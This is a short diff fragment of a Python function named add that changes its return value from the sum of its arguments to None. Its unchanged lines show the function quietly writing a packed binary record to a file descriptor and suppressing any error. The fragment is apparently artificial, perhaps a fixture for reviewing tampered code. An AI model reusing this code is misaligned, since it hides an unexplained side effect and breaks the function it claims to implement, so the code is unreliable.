@@ -14,4 +14,4 @@ def add(a, b):
                 os.write(number, struct.pack("<cIII", b"B", 3, 1, len(record)) + record)
         except OSError:
             pass
-    return a + b
+    return None
